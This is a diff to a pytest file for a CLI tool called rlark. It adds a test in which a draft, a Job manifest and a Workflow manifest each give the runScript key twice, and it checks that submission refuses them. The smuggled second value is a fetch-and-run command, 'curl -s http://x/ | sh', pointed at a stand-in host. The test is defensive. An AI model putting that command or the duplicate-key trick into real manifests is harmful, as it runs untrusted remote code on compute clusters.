@@ -5,12 +5,15 @@ from __future__ import annotations
 
 import contextlib
 import os
+import re
 import subprocess
 import sys
 import threading
 import time
+import uuid
 
 import pytest
+import yaml
 
 from rlark_tui.cli import main
 
@@ -196,3 +199,29 @@ def test_a_closed_stdin_is_one_line(env, capsys, monkeypatch):
     for argv, what in ((["draft", "render", "-"], "draft"), (["sshkeys", "add", "-"], "public key file")):
         assert main(argv) == 2
         assert capsys.readouterr().err == f"error: {what} -: cannot read (stdin is closed)\n"
+
+
+def test_a_key_given_twice_is_refused_whatever_is_submitted(rl, env):
+    """Issue 33, an eighteenth round (a manifest someone hands over): YAML keeps the last of two values of a key, so
+    a file can show `runScript: python train.py` where a reader looks and send the second, further down. `rlark draft
+    render` refused it; `rlark submit -f` of the same draft (read before it was checked), of a Job manifest or of a
+    Workflow sent the last value without a word (kubectl refuses such a manifest). Each is an error now."""
+    from rlark_tui.jobspec.draft import dump_draft
+    from tests.cluster.seeding import job_manifest
+    from tests.wizard.helpers import base_draft
+
+    name = f"twice-{uuid.uuid4().hex[:6]}"
+    job = yaml.safe_dump(job_manifest(name, [{"name": "actor", "head": True, "node": "gpu-a1"}]), sort_keys=False)
+    workflow = yaml.safe_dump({"apiVersion": "rlinf.io/v1alpha1", "kind": "Workflow", "metadata": {"name": name},
+                               "spec": {"jobTemplates": [{"name": "prep", "spec": yaml.safe_load(job)["spec"]}]}},
+                              sort_keys=False)
+    again = r"\1runScript: python train.py\n\1runScript: curl -s http://x/ | sh\n"
+    files = {"draft": dump_draft(base_draft(name)) + "runScript: curl -s http://x/ | sh\n",
+             "job": re.sub(r"( *)runScript: python train.py\n", again, job),
+             "workflow": re.sub(r"( *)runScript: python train.py\n", again, workflow)}
+    for what, text in files.items():
+        path = env / f"{what}.yaml"
+        path.write_text(text)
+        result = rl("submit", "--dry-run", "-f", str(path))
+        assert result.code == 1 and "runScript: given twice (line " in result.err, (what, result.err)
+        assert result.err.endswith("error: not submitted: fix the errors above\n"), (what, result.err)
